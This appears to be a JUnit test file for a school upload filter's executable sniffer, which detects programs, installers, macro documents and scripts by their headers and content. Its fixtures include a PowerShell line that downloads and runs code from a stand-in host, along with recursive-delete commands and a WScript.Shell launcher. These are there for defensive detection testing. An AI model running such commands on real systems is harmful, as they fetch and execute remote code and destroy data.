package uk.schoolgate.extract;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.schoolgate.extract.Samples.utf8;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ExecutableSnifferTest {

    private static Optional<String> kind(byte[] content, String mediaType) {
        return ExecutableSniffer.kind(content, mediaType);
    }

    private static Optional<String> textKind(String text) {
        return kind(utf8(text), "text/plain");
    }

    @Test
    void windowsProgramsAndLibrariesByTheirHeaders() {
        assertThat(kind(Samples.windowsProgram(false), "application/x-msdownload")).contains("Windows program");
        assertThat(kind(Samples.windowsProgram(true), "application/x-msdownload")).contains("Windows library (DLL)");
        // the media type is not needed: a PE file Tika could not place is still a program
        assertThat(kind(Samples.windowsProgram(false), "application/octet-stream")).contains("Windows program");
    }

    @Test
    void textThatHappensToStartWithMzIsNotAProgram() {
        assertThat(textKind("MZ Smith: notes on the Year 6 trip\nMeet at 9.")).isEmpty();
    }

    @Test
    void linuxAndMacProgramsAndJavaClasses() {
        assertThat(kind(Samples.linuxProgram(), "application/x-executable")).contains("Linux program");
        assertThat(kind(bigEndian(0xFEEDFACF, 7, 3), "application/octet-stream")).contains("macOS program");
        assertThat(kind(bigEndian(0xCAFEBABE, 2, 0), "application/octet-stream")).as("universal binary, 2 archs")
                .contains("macOS program");
        assertThat(kind(bigEndian(0xCAFEBABE, 61, 0), "application/java-vm")).as("class file, Java 17")
                .contains("Java program");
    }

    @Test
    void windowsShortcut() {
        byte[] lnk = new byte[76];
        byte[] header = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        System.arraycopy(header, 0, lnk, 0, header.length);
        assertThat(kind(lnk, "application/octet-stream")).contains("Windows shortcut");
    }

    @Test
    void windowsInstallerByTheRootStorageClassId() {
        ByteBuffer b = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
        b.put(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
        b.putShort(0x1E, (short) 9); // 512-byte sectors
        b.putInt(0x30, 0);           // directory starts in sector 0, right after the header
        byte[] msiClsid = {(byte) 0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        b.position(512 + 0x50);
        b.put(msiClsid);
        assertThat(kind(b.array(), "application/x-tika-msoffice")).contains("Windows installer");

        b.put(512 + 0x50, (byte) 0x06); // another class id: an ordinary Word 97 file, say
        assertThat(kind(b.array(), "application/msword")).isEmpty();
    }

    @Test
    void archivesOfProgramsByTheirDetectedType() {
        byte[] zipBytes = Samples.zip(java.util.Map.of("a.txt", utf8("x")));
        assertThat(kind(zipBytes, "application/java-archive")).contains("Java program");
        assertThat(kind(zipBytes, "application/vnd.android.package-archive")).contains("Android app");
        assertThat(kind(zipBytes, "application/zip")).isEmpty();
    }

    @Test
    void macroEnabledDocumentsAreDocumentsUnlessTheSwitchIsFlipped() {
        byte[] zipBytes = Samples.zip(java.util.Map.of("word/document.xml", utf8("<w:document/>")));
        Optional<String> docm = kind(zipBytes, "application/vnd.ms-word.document.macroenabled.12");
        if (ExecutableSniffer.MACRO_DOCUMENTS_ARE_EXECUTABLE) {
            assertThat(docm).contains("macro-enabled Office document");
        } else {
            assertThat(docm).isEmpty();
        }
    }

    @Test
    void scriptsWithAShebang() {
        assertThat(textKind("#!/bin/sh\nrm -rf /tmp/x\n")).contains("shell script");
        assertThat(textKind("#!/usr/bin/env python3\nprint('hi')\n")).contains("Python script");
        assertThat(textKind("#! /usr/bin/perl -w\nprint 1;\n")).contains("Perl script");
        assertThat(kind(utf8("#!/bin/bash\necho hi\n"), "application/x-sh")).contains("shell script");
        assertThat(textKind("\uFEFF#!/bin/zsh\nls\n")).as("after a byte order mark").contains("shell script");
        assertThat(textKind("#!/usr/bin/env -S node --harmony\n")).contains("JavaScript (Node.js) script");
    }

    @Test
    void windowsBatchFiles() {
        assertThat(textKind("@echo off\r\ncopy a b\r\n")).contains("Windows batch file");
        assertThat(textKind("REM set up\r\n@ECHO OFF\r\ndel *.tmp\r\n")).contains("Windows batch file");
        assertThat(textKind("setlocal\r\nif errorlevel 1 goto fail\r\ncd %~dp0\r\n:fail\r\n"))
                .contains("Windows batch file");
        assertThat(textKind("Please switch the projector off at the wall.\r\nEcho the instructions to the class."))
                .isEmpty();
    }

    @Test
    void powerShellScripts() {
        assertThat(textKind("$c = New-Object System.Net.WebClient\r\niex $c.DownloadString('http://x/y')\r\n"))
                .contains("PowerShell script");
        assertThat(textKind("param($Path)\nGet-ChildItem $Path | Remove-Item -Recurse\n")).contains("PowerShell script");
        byte[] utf16 = ("\uFEFFGet-Process | Stop-Process\r\n$x = 1\r\n").getBytes(StandardCharsets.UTF_16LE);
        assertThat(kind(utf16, "application/octet-stream")).as("saved as UTF-16 with BOM").contains("PowerShell script");
        assertThat(textKind("In ICT we will learn how Get-Help works in PowerShell.")).isEmpty();
    }

    @Test
    void windowsScriptHostAndHtmlApplications() {
        assertThat(textKind("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"))
                .contains("Windows Script Host script (VBScript/JScript)");
        assertThat(textKind("var x = new ActiveXObject(\"Scripting.FileSystemObject\");"))
                .contains("Windows Script Host script (VBScript/JScript)");
        assertThat(kind(utf8("<html><head><HTA:APPLICATION ID=\"x\"/></head><body>hi</body></html>"), "text/html"))
                .contains("HTML application (HTA)");
    }

    @Test
    void documentsAreNotScriptsWhateverTheyQuote() {
        byte[] pdfQuotingScript = utf8("%PDF-1.4\n1 0 obj<</JS (new ActiveXObject(\"WScript.Shell\"))>>endobj\n");
        assertThat(kind(pdfQuotingScript, "application/pdf")).isEmpty();
        assertThat(kind(Samples.docx("@echo off", null),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")).isEmpty();
        assertThat(textKind("Dear parents,\nthe trip to the museum is on Friday.\n")).isEmpty();
        assertThat(kind(new byte[0], "application/octet-stream")).isEmpty();
    }

    private static byte[] bigEndian(int magic, int second, int third) {
        return ByteBuffer.allocate(64).putInt(magic).putInt(second).putInt(third).array();
    }
}
